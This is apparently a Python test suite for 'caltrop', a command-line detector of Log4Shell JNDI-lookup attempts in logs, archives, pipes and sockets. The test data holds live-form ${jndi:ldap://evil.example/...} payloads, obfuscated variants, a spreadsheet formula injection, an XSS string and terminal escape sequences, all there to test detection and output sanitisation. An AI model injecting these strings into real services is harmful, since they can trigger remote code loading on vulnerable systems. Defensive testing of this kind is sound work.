"""caltrop detect over files, pipes, folders and archives, whole and damaged."""
import bz2
import csv
import fcntl
import gzip
import io
import json
import lzma
import os
import re
import resource
import shutil
import signal
import socket
import struct
import subprocess
import termios
import threading

import cli_case
from cli_case import Case, attack, line

FORMATS = {
    "common.log": ("common", '192.0.2.1 - ${jndi:ldap://evil.example/a} [10/Dec/2021:14:00:00 +0000] "GET / HTTP/1.1" 200 1\n'),
    "combined.log": ("combined", attack(1)),
    "vhost.log": ("vhost_combined", "shop.example:443 " + attack(1)),
    "json.log": ("json", '{"remote_addr":"192.0.2.1","request":{"headers":{"X-Api-Version":"${jndi:ldap://evil.example/a}"}}}\n'),
    "haproxy.log": ("haproxy", "Dec 10 14:00:00 lb haproxy[9]: 192.0.2.1:50000 [10/Dec/2021:14:00:00.123] web app/a 0/0/1/2/3 200 512 - - "
                    '---- 1/1/0/0/0 0/0 {${jndi:ldap://evil.example/a}} "GET / HTTP/1.1"\n'),
    "w3c.log": ("w3c", "#Fields: date time c-ip cs-method cs-uri-stem cs(User-Agent) sc-status\n"
                "2021-12-10 14:00:00 192.0.2.1 GET / ${jndi:ldap://evil.example/a} 200\n"),
    "modsec.log": ("modsecurity", "--c7036611-A--\n[10/Dec/2021:14:00:00 +0000] YbNd 192.0.2.1 50000 192.0.2.9 80\n--c7036611-B--\n"
                   "GET / HTTP/1.1\nUser-Agent: ${jndi:ldap://evil.example/a}\n\n--c7036611-Z--\n"),
    "mail.log": ("postfix", "Dec 10 14:00:00 mx postfix/smtpd[9]: NOQUEUE: reject: RCPT from h.example[192.0.2.1]: 554 5.7.1 <a@b.example>: "
                 "Relay access denied; from=<${jndi:ldap://evil.example/a}> to=<a@b.example> proto=ESMTP helo=<h>\n"),
    "syslog.log": ("syslog", "Dec 10 14:00:00 host app[9]: login failed for ${jndi:ldap://evil.example/a}\n"),
    "raw.log": ("raw", "nothing but ${jndi:ldap://evil.example/a}\n"),
}


class Formats(Case):
    def test_fields_named_amid_a_log_hold_for_what_follows_however_many_read_it(self):
        wanted, lines = [], ["#Fields: date time c-ip cs-uri-stem cs(User-Agent)"]
        for i in range(60000):  # several blocks before the change and behind it
            client, agent = f"10.1.{i // 250}.{i % 250}", "${jndi:ldap://evil.example/a}" if i % 4999 == 0 else "Mozilla/5.0+(X11;+Linux+x86_64)"
            if agent[0] == "$":
                wanted.append(client)
            if i == 30000:
                lines.append("#Fields: date time cs(User-Agent) cs-uri-stem c-ip")
            lines.append(f"2021-12-10 14:00:00 {client} /{i} {agent}" if i < 30000 else f"2021-12-10 14:00:00 {agent} /{i} {client}")
        path = self.write("w3c.log", "\n".join(lines) + "\n")
        self.assertGreater(os.path.getsize(path), 3 << 20)
        for jobs in ("1", "8"):
            self.assertEqual([e["source"]["ip"] for e in self.events("-j", jobs, path, status=1)], wanted, jobs)

    def test_each_format_is_recognised_and_judged(self):
        for name, (form, text) in FORMATS.items():
            with self.subTest(name):
                events = self.events(self.write(name, text), status=1)
                self.assertEqual(len(events), 1, events)
                own = events[0]["caltrop"]
                self.assertEqual((own["format"], own["grade"], own["indicators"][0]["host"]), (form, "exploit", "evil.example"))
                self.assertEqual(events[0]["log"]["file"]["path"], self.path(name))
                if form != "raw" and form != "syslog":
                    self.assertEqual(events[0]["source"]["ip"], "192.0.2.1")
                forced = self.events("--log-format", form, self.path(name), status=1)
                self.assertEqual([e["event"]["id"] for e in forced], [events[0]["event"]["id"]])

    def test_a_wrong_format_still_finds_the_attack(self):
        path = self.write("a.log", attack(1))
        for form in ("json", "haproxy", "w3c", "postfix", "raw"):
            self.assertEqual(self.events("--log-format", form, path, status=1)[0]["caltrop"]["grade"], "exploit")


class Sources(Case):
    def setUp(self):
        super().setUp()
        self.text = "".join(attack(n) if n % 7 == 0 else line(n) for n in range(400))
        self.log = self.write("access.log", self.text)
        self.expected = self.essence(self.events(self.log, status=1))
        self.assertEqual(len(self.expected), 58)

    @staticmethod
    def essence(events):
        """What does not depend on the source's name."""
        kept = []
        for e in events:
            e = json.loads(json.dumps(e))
            del e["event"]["id"]
            e["log"].pop("file", None)
            e["caltrop"].pop("source", None)
            kept.append(e)
        return kept

    def test_stdin_pipe_fifo_and_socket(self):
        with open(self.log, "rb") as f:
            self.assertEqual(self.essence(self.events(stdin=f)), self.expected)
        events = self.events("-", stdin=self.text.encode())
        self.assertEqual(self.essence(events), self.expected)
        self.assertEqual(events[0]["caltrop"]["source"], "stdin")
        os.mkfifo(self.path("fifo"))
        writer = threading.Thread(target=lambda: self.write("fifo", self.text))
        writer.start()
        self.assertEqual(self.essence(self.events(self.path("fifo"))), self.expected)
        writer.join()
        ours, theirs = socket.socketpair()
        with ours, theirs:
            ours.sendall(self.text.encode())
            ours.shutdown(socket.SHUT_WR)
            self.assertEqual(self.essence(self.events(stdin=theirs)), self.expected)

    def test_every_archive_gives_the_same(self):
        data = self.text.encode()
        archives = {"a.gz": gzip.compress(data[:5000]) + gzip.compress(data[5000:]), "a.xz": lzma.compress(data), "a.bz2": bz2.compress(data)}
        for tool, name in (("zstd", "a.zst"), ("lz4", "a.lz4")):
            if not shutil.which(tool):
                self.skipTest(tool + " is not installed")
            packed = subprocess.run([tool, "-q", "-c", self.log], check=True, capture_output=True)
            archives[name] = packed.stdout
        for name, content in archives.items():
            with self.subTest(name):
                path = self.write(name, content)
                self.assertEqual(self.essence(self.events(path, status=1)), self.expected)
                self.assertEqual(self.essence(self.events("-", stdin=content, status=1)), self.expected)
                same_name = self.write("same/access.log", content)
                ids = [e["event"]["id"] for e in self.events(same_name)]
                self.write("same/access.log", data)
                self.assertEqual(ids, [e["event"]["id"] for e in self.events(same_name)])

    def test_several_files_folders_and_globs(self):
        self.write("logs/app.log", attack(3))
        self.write("logs/deep/er/app.log.2.gz", gzip.compress(attack(1).encode()))
        self.write("logs/deep/er/app.log.1", attack(2))
        self.write("logs/deep/er/system.journal", b"\0binary ${jndi:ldap://evil.example/n9}")
        by_path = [e["caltrop"]["indicators"][0]["path"] for e in self.events(self.path("logs"), status=1)]
        self.assertEqual(sorted(by_path), ["/n1", "/n2", "/n3"])
        self.assertLess(by_path.index("/n1"), by_path.index("/n2"))  # the older rotation first
        some = self.events(self.path("logs/deep/er/app*"), self.path("logs/app.log"), self.path("logs/app.log"), status=1)
        self.assertEqual(sorted(e["caltrop"]["indicators"][0]["path"] for e in some), ["/n1", "/n2", "/n3"])
        none = self.run_cli("detect", self.path("nowhere/*.log"), status=3)
        self.assertIn(b"nowhere", none.stderr)

    def test_workers_agree(self):
        data = (self.text * 40).encode()  # many blocks
        path = self.write("big.log", data)
        for output in ("table", "ecs", "csv", "sarif"):
            one = self.run_cli("detect", "-q", "-v", "--output", output, "-j", 1, path, status=1).stdout
            four = self.run_cli("detect", "-q", "-v", "--output", output, "-j", 4, path, status=1).stdout
            self.assertEqual(one, four)
            self.assertGreater(len(one), 1000)

    def test_lines_and_offsets(self):
        data = (self.text * 20 + attack(7).rstrip("\n")).encode()  # the last line has no newline
        lines = data.split(b"\n")
        for e in self.events("-j", 3, self.write("big.log", data)):
            number, offset = e["caltrop"]["line"], e["log"]["offset"]
            self.assertEqual(data[offset:].split(b"\n", 1)[0], lines[number - 1])
            self.assertIn(b"jndi", lines[number - 1])
        done = self.run_cli("detect", self.path("big.log"), status=1)
        self.assertTrue(done.stdout.decode().startswith("{:,} lines".format(len(lines))), done.stdout[:100])

    def test_a_pipe_is_answered_before_it_ends(self):
        child = self.start("detect", "--json", "-q", "-", stdin=subprocess.PIPE)
        for n in range(3):
            child.stdin.write(attack(n).encode())
            child.stdin.flush()
            self.assertEqual(json.loads(child.stdout.readline())["caltrop"]["indicators"][0]["path"], "/n%d" % n)
        child.stdin.close()
        self.assertEqual(child.wait(cli_case.DEADLINE), 1)


class Hostile(Case):
    def test_bytes_of_every_kind(self):
        data = b"\xff\xfe\x00\x01 ${jndi:ldap://evil.example/a}\xc3\x28\n" + b"\0" * 1000 + b"\n" + bytes(range(256)) * 50 + b"\n" + attack(5).encode()
        events = self.events(self.write("a.log", data), status=1)
        self.assertEqual(len(events), 2)
        self.assertEqual(events[0]["caltrop"]["indicators"][0]["host"], "evil.example")

    def test_an_endless_line_takes_little_memory(self):
        path = self.path("long.log")
        with open(path, "wb") as f:
            for n in range(100):
                f.write(b"a" * 999_983)
                if n in (0, 57, 99):
                    f.write(b"${jndi:ldap://n%d.example/a}" % n)
            f.write(b"\n" + attack(7).encode())
        for jobs in (1, 4):
            child = self.start("detect", "--json", "-q", "-j", jobs, path)
            out = child.stdout.read()
            _, status, used = os.wait4(child.pid, 0)
            child.returncode = os.waitstatus_to_exitcode(status)
            self.assertEqual(child.returncode, 1)
            if "sanitize" not in os.environ.get("CALTROP_BUILD", ""):
                self.assertLess(used.ru_maxrss, 64 * 1024)
            events = [json.loads(text) for text in out.splitlines()]
            found = [(e["caltrop"]["indicators"][0]["host"], e["caltrop"]["line"], e["log"]["offset"]) for e in events]
            end = os.path.getsize(path) - len(attack(7))
            self.assertEqual(found, [("n0.example", 1, 0), ("n57.example", 1, 0), ("n99.example", 1, 0), ("evil.example", 2, end)])

    def test_attacks_and_nothing_else(self):
        path = self.write("dense.log", "${jndi:rmi://h/a}\n" * 100_000)
        done = self.run_cli("detect", "-j", 2, path, status=1)
        self.assertIn(b"100,000 attempts: 100,000 exploit", done.stdout)

    def test_an_attack_of_half_a_window_is_found_wherever_it_lies_in_a_long_line(self):
        text = "${${x" + "a" * 30000 + ":-j}ndi:ldap://h.example/a}"
        lines = [f"${{a}} {'p' * before}{text}{'z' * 9000}\n" for before in range(30000, 66000, 1500)]
        events = self.events(self.write("long.log", "".join(lines)), status=1)
        self.assertEqual([(e["caltrop"]["line"], e["caltrop"]["grade"]) for e in events], [(n + 1, "exploit") for n in range(len(lines))])

    def test_attacks_of_the_longest_kind_end_no_run(self):
        text = "".join("${jndi:ldap://%s%d.example:1389/%s}" % ("x" * 200, n, '\\x01"\x01\xe9' * 900) for n in range(17))
        path = self.write("a.log", text + "\n" + attack(2))
        for output in ("ecs", "csv", "sarif", "table"):
            done = self.run_cli("detect", "-v", "--output", output, "--to", "file:" + self.path("out"), path, status=1)
            self.assertIn(b"n2", done.stdout)
        with open(self.path("out")) as f:
            sent = [json.loads(text) for text in f]
        self.assertEqual(len(sent), 8)

    def test_truncated_and_damaged_archives(self):
        lines = "".join(attack(n, "h%d.example" % (n * 7919 % 997)) for n in range(3000)).encode()
        whole = gzip.compress(lines)
        half = self.write("half.gz", whole[: len(whole) // 2])
        other = self.write("zz.log", attack(1))
        done = self.run_cli("detect", "--json", "-q", half, other, status=3)
        self.assertIn(("caltrop: %s: ends early at byte %d" % (half, len(whole) // 2)).encode(), done.stderr)
        events = [json.loads(text) for text in done.stdout.splitlines()]
        self.assertGreater(len(events), 500)
        self.assertEqual(events[-1]["log"]["file"]["path"], other)
        wrong = bytearray(whole)
        wrong[len(whole) // 2] ^= 0x55
        done = self.run_cli("detect", self.write("wrong.gz", bytes(wrong)), status=3)
        self.assertIn(b"wrong.gz: ", done.stderr)
        self.assertIn(b" at byte ", done.stderr)
        self.assertIn(b"NOT READ", done.stdout)
        done = self.run_cli("detect", self.write("method.gz", whole[:2] + b"\x07" + whole[3:]), status=3)
        self.assertIn(b"another method than deflate", done.stderr)
        sarif = json.loads(self.run_cli("detect", "--output", "sarif", half, status=3).stdout)
        self.assertFalse(sarif["runs"][0]["invocations"][0]["executionSuccessful"])

    def test_hostile_names_and_arguments(self):
        name = "a\x1b[31m${jndi:ldap:\n.log"
        path = self.write(name, attack(1))
        for output in ("table", "csv", "sarif", "ecs"):
            done = self.run_cli("detect", "-v", "--output", output, path, path + "missing", status=3)
            for text in (done.stdout, done.stderr):
                self.assertNotIn(b"${", text)
                self.assertNotIn(b"\x1b", text)
        for args in (["detect", "--${jndi:x}"], ["${jndi:x}"], ["detect", "--since", "${jndi:x}"], ["detect", "--to", "${jndi:x}", path],
                     ["detect", "--state", self.path("no/${jndi:x}"), path], ["help", "${jndi:x}"], ["explain", "a", "${jndi:x}"],
                     ["detect", "--callbacks", "${jndi:x}", path], ["detect", "--own-scanners", "${jndi:x}", path],
                     ["detect", "--indicators", "/no/${jndi:x}", path]):
            done = self.run_cli(*args)
            self.assertIn(done.returncode, (2, 4), args)
            self.assertNotIn(b"${", done.stdout)

    def test_unreadable_and_vanishing(self):
        self.write("logs/good.log", attack(1))
        self.write("logs/secret.log", attack(2))
        self.write("logs/closed/deep.log", attack(3))
        os.chmod(self.path("logs/secret.log"), 0)
        os.chmod(self.path("logs/closed"), 0)
        command = [cli_case.CALTROP, "detect", "--json", "-q", self.path("logs"), self.path("gone.log")]
        if os.getuid() == 0:
            if not shutil.which("setpriv"):
                self.skipTest("setpriv is not installed")
            os.chmod(self.dir, 0o755)
            copy = self.path("caltrop")
            shutil.copy(cli_case.CALTROP, copy)  # the build folder may be closed to others
            os.chmod(copy, 0o755)
            command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", copy, *command[1:]]
        done = subprocess.run(command, capture_output=True, check=False, timeout=cli_case.DEADLINE, env=self.env)
        self.assertEqual(done.returncode, 3, done.stderr)
        self.assertEqual(len(done.stdout.splitlines()), 1)
        for name in (b"secret.log: open: Permission denied", b"closed: Permission denied", b"gone.log: No such file or directory"):
            self.assertIn(name, done.stderr)

    def test_a_log_full_of_traps_shows_nothing_live(self):
        tricks = ["${jndi:ldap://evil.example/a}", "%24%7Bjndi:ldap://evil.example/a%7D", "\x1b]0;title\x07${jndi:ldap://e.example/a}",
                  "\u202e${jndi:dns://evil.example/}", "${${::-${::-$${::-j}}}}", "=cmd|' /C calc'!A0 ${jndi:ldap://evil.example/a}", "${env:A}",
                  "@SUM(1)${jndi:ldap://evil.example/a}", "[a](https://evil.example/x) {0} ${jndi:ldap://evil.example/a}", "$${jndi:ldap://evil.example/a}",
                  "<script>alert(1)</script>${jndi:ldap://evil.example/a}", "\u200b${jndi:ldap://\u0435vil.example/a}"]
        text = "".join(line(n, t) + line(n, path="?q=" + t) + "Dec 10 14:00:00 h app: " + t + "\n" + json.dumps({"a": t, t: 1}) + "\n"
                       for n, t in enumerate(tricks))
        path = self.write("a.log", text)
        for extra in ((), ("-v",), ("-v", "--unmasked"), ("--min-grade", "rule")):
            for output in ("table", "ecs", "csv", "sarif"):
                done = self.run_cli("detect", *extra, "--output", output, path, status=1)
                for where in (done.stdout, done.stderr):
                    self.assertNotIn(b"${", where)
                    self.assertFalse([b for b in where if b < 32 and b != 10 and not (output == "csv" and b == 13)], where)
                    for invisible in ("\u202e", "\u200b"):
                        self.assertNotIn(invisible.encode(), where)
                if output == "table":
                    self.assertNotIn(b"evil.example", done.stdout)
                    self.assertNotIn(b"://", done.stdout)
                if output == "csv":
                    rows = list(csv.reader(io.StringIO(done.stdout.decode(), newline="")))
                    self.assertEqual({len(row) for row in rows}, {len(rows[0])})
                    self.assertFalse([cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t")])
                if output == "sarif":
                    json.loads(done.stdout)
        shown, status = cli_case.on_terminal(["detect", "-v", path], 200, dict(self.env, TERM="xterm"))
        self.assertEqual(status, 1)
        self.assertNotIn("${", shown)
        self.assertNotIn("\x1b", re.sub(r"\x1b\[[0-9;]*[mK]", "", shown))  # colours only


class Signals(Case):
    def test_interrupt_gives_a_partial_report(self):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            for output in ("table", "ecs", "sarif", "csv"):
                with self.subTest(number=number, output=output):
                    child = self.start("detect", "-j", 3, "--output", output, "-", stdin=subprocess.PIPE,
                                       preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_DFL))  # whatever started the tests
                    child.stdin.write((attack(1) * 3).encode())
                    child.stdin.flush()
                    if output in ("ecs", "csv"):
                        self.assertTrue(child.stdout.readline())  # it has been read
                    else:  # taken from the pipe and waiting for more
                        self.await_that(lambda c=child: self.is_reading(c), "the pipe to be read")
                    child.send_signal(number)
                    out, err = child.stdout.read(), child.stderr.read()  # its input stays open: only the signal ends it
                    self.assertEqual(child.wait(cli_case.DEADLINE), 130)
                    self.assertIn(b"this report is partial", err.splitlines()[-1])
                    if output == "table":
                        self.assertIn(b"PARTIAL", out)
                        self.assertIn(b"3 attempts", out)
                    if output == "sarif":
                        run = json.loads(out)["runs"][0]
                        self.assertEqual(len(run["results"]), 3)
                        self.assertFalse(run["invocations"][0]["executionSuccessful"])

    def test_a_second_interrupt_ends_a_blocked_output(self):
        log = self.write("many.log", attack(1) * 5000)
        for jobs in ("1", "2"):
            with self.subTest(jobs):
                child = self.start("detect", "-j", jobs, "--json", log, stderr=subprocess.DEVNULL)

                def caught(what):
                    with open("/proc/%d/status" % child.pid) as f:
                        return int(re.search(what + r":\s+(\w+)", f.read()).group(1), 16) >> signal.SIGINT - 1 & 1

                half = fcntl.fcntl(child.stdout, fcntl.F_GETPIPE_SZ) // 2
                self.await_that(lambda: self.left_in(child.stdout) > half and self.sleeps(child), "a full pipe")
                child.send_signal(signal.SIGINT)
                self.await_that(lambda: not caught("SigCgt"), "the first to arrive")
                child.send_signal(signal.SIGINT)
                self.assertEqual(child.wait(cli_case.DEADLINE), -signal.SIGINT)

    def test_a_closed_output_is_no_place_for_another_file(self):
        log, out = self.write("one.log", attack(1)), self.path("callbacks")
        child = self.start("detect", "--json", "--indicators", out, log, stdout=None, preexec_fn=lambda: os.close(1))
        self.assertEqual((child.wait(cli_case.DEADLINE), child.stderr.read()), (4, b"caltrop: cannot write the output: Bad file descriptor\n"))
        with open(out, "rb") as f:
            self.assertTrue(f.read().startswith(b"# callback targets"))

    def test_indicators_overwrite_no_log(self):
        log = self.write("one.log", attack(1))
        done = self.run_cli("detect", "-q", "--indicators", log, log, status=2)
        self.assertIn(b"holds something else than indicators", done.stderr)
        with open(log) as f:
            self.assertEqual(f.read(), attack(1))
        for _ in range(2):  # its own file is written anew
            self.run_cli("detect", "-q", "--indicators", self.path("callbacks"), log, status=1)

    def left_in(self, pipe):
        return struct.unpack("i", fcntl.ioctl(pipe, termios.FIONREAD, b"\0\0\0\0"))[0]

    def is_reading(self, child):
        return not self.left_in(child.stdin) and self.sleeps(child)

    def sleeps(self, child):
        states = []
        for task in os.listdir("/proc/%d/task" % child.pid):
            with open("/proc/%d/task/%s/stat" % (child.pid, task)) as f:
                states.append(f.read().rsplit(")", 1)[1].split()[0])
        return set(states) == {"S"}

    def test_interrupt_in_a_big_file(self):
        path = self.path("big.log")
        with open(path, "w") as f:
            for n in range(60):
                f.write("${jndi:rmi://h/a}\n" * 20_000)
        child = self.start("detect", "--json", "-j", 2, path)
        for _ in range(100):
            child.stdout.readline()
        child.send_signal(signal.SIGINT)
        out, err = child.communicate(timeout=cli_case.DEADLINE)
        self.assertEqual(child.returncode, 130)
        self.assertTrue(out.endswith(b"\n"))
        self.assertIn(b"partial", err)
        # Of which file how much was read, and how many were not begun.
        pipe = self.path("pipe")
        os.mkfifo(pipe)
        for files, rest in ((("a", pipe, "b", "c"), r"of /\S+/pipe not all was read, of 2 files after it nothing\n"), ((path,), r"of /\S+/big.log \d+ % was read\n")):
            files = [self.write(f, attack(1)) if len(f) == 1 else f for f in files]
            child = self.start("detect", "-v", "-j", 1, *files)
            child.stdout.readline()
            if pipe in files:
                with open(pipe, "wb") as f:
                    f.write(attack(2).encode())
                    f.flush()
                    child.stdout.readline()
                    child.send_signal(signal.SIGINT)
                    out, _ = child.communicate(timeout=cli_case.DEADLINE)
            else:
                child.send_signal(signal.SIGINT)
                out, _ = child.communicate(timeout=cli_case.DEADLINE)
            self.assertRegex(" ".join(out.decode().split()) + "\n", r"this report is partial; " + rest)

    def test_a_terminal_that_goes_away(self):
        """After nohup(1) it goes on all the same."""
        child = self.start("detect", "-j", 1, "-", stdin=subprocess.PIPE, preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_IGN))
        child.stdin.write(attack(1).encode())
        child.stdin.flush()
        self.await_that(lambda: self.is_reading(child), "the pipe to be read")
        child.send_signal(signal.SIGHUP)
        out, err = child.communicate(attack(2).encode(), timeout=cli_case.DEADLINE)
        self.assertEqual((child.returncode, err), (1, b""))
        self.assertIn(b"2 attempts", out)

    def test_a_file_cut_while_it_is_read(self):
        path = self.path("cut.log")
        for jobs in (1, 2):
            with open(path, "w") as f:
                for n in range(3000):
                    f.write(attack(n))
                f.write(line(1) * 300_000)
            child = self.start("detect", "--json", "-j", jobs, path)
            child.stdout.readline()  # it waits for us to read on
            os.truncate(path, 5_000_000)
            _, err = child.communicate(timeout=cli_case.DEADLINE)
            self.assertEqual(child.returncode, 3)
            self.assertRegex(err.decode(), r"cut\.log: was cut while it was read: of its \d+ bytes \d+ were there\n")
        done = self.run_cli("detect", "/sys/kernel/mm", status=None)  # these say 4096 bytes, and hold less
        self.assertNotIn(b"was cut", done.stderr)

    def test_pipes_and_sockets_among_the_files(self):
        with socket.socket(socket.AF_UNIX) as s:
            s.bind(self.path("sock"))
            done = self.run_cli("detect", self.path("sock"), self.write("a.log", attack(1)), status=3)
        self.assertIn(b"sock: not supported: is a socket\n", done.stderr)
        os.mkfifo(self.path("fifo"))
        os.symlink("nowhere", self.path("link"))
        done = self.run_cli("detect", self.path("*"), status=1)
        self.assertEqual(done.stderr, b"")


    def test_interrupt_while_the_callbacks_are_read(self):
        os.mkfifo(self.path("dns"))
        child = self.start("detect", "--callbacks", self.path("dns"), self.write("a.log", attack(1)))
        with open(self.path("dns"), "wb") as pipe:  # it has been opened, and says nothing
            pipe.write(b"query: a.example\n")
            pipe.flush()
            self.await_that(lambda: not struct.unpack("i", fcntl.ioctl(pipe, termios.FIONREAD, b"\0\0\0\0"))[0], "the pipe to be read")
            child.send_signal(signal.SIGINT)
            out, err = child.communicate(timeout=cli_case.DEADLINE)
        self.assertEqual((child.returncode, out, err), (130, b"", b"caltrop: interrupted before any log was read\n"))


class Output(Case):
    def test_full_disk_and_closed_pipe(self):
        path = self.write("a.log", "".join(attack(n) for n in range(3000)))
        for args in (["detect", path], ["detect", "--json", path], ["detect", "--output", "sarif", path], ["explain", "${jndi:x}"], ["--help"],
                     ["version"], ["self-test"], ["detect", "--help"], ["--generate", "man"]):
            with open("/dev/full", "wb") as full:
                done = self.run_cli(*args, stdout=full, status=4)
            self.assertIn(b"No space left on device", done.stderr)
        for args in (["detect", "--json", path], ["detect", "-v", path]):
            read, write = os.pipe()
            child = self.start(*args, stdout=write)
            os.close(write)
            with os.fdopen(read, "rb") as pipe:
                self.assertTrue(pipe.readline())
            _, err = child.communicate(timeout=cli_case.DEADLINE)
            self.assertEqual(child.returncode, 4)
            self.assertIn(b"Broken pipe", err)
        with open(self.path("capped"), "wb") as capped:
            done = self.run_cli("detect", "--json", "-q", path, stdout=capped, status=4,
                                preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000)))
        self.assertIn(b"File too large", done.stderr)
        with open(path, "rb") as read_only:
            self.assertIn(b"cannot write", self.run_cli("detect", "--json", path, stdout=read_only, status=4).stderr)


if __name__ == "__main__":
    cli_case.main()
